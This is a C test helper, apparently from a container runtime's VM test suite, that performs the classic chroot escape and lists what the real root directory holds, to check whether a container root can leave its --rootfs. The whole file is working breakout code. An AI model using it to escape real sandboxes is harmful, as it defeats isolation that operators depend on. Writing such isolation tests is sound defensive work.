/* escape.c: the classic chroot escape, for tests/vm/guest/rootfs.sh (built static by
 * rootfs.sh into the guest's rootfs). chroot into a subdirectory without entering it,
 * walk ".." from the old root, chroot there, and list what "/" then holds. A container
 * root holds CAP_SYS_CHROOT, so this is what it could do to leave --rootfs DIR. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
	mkdir("/tmp/e", 0755);
	if (chroot("/tmp/e") != 0) return perror("chroot /tmp/e"), 1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0) return perror("chdir .."), 1;
	if (chroot(".") != 0) return perror("chroot ."), 1;
	DIR *d = opendir("/");
	if (!d) return perror("opendir /"), 1;
	for (struct dirent *e; (e = readdir(d));)
		if (e->d_name[0] != '.') printf("%s\n", e->d_name);
	return 0;
}
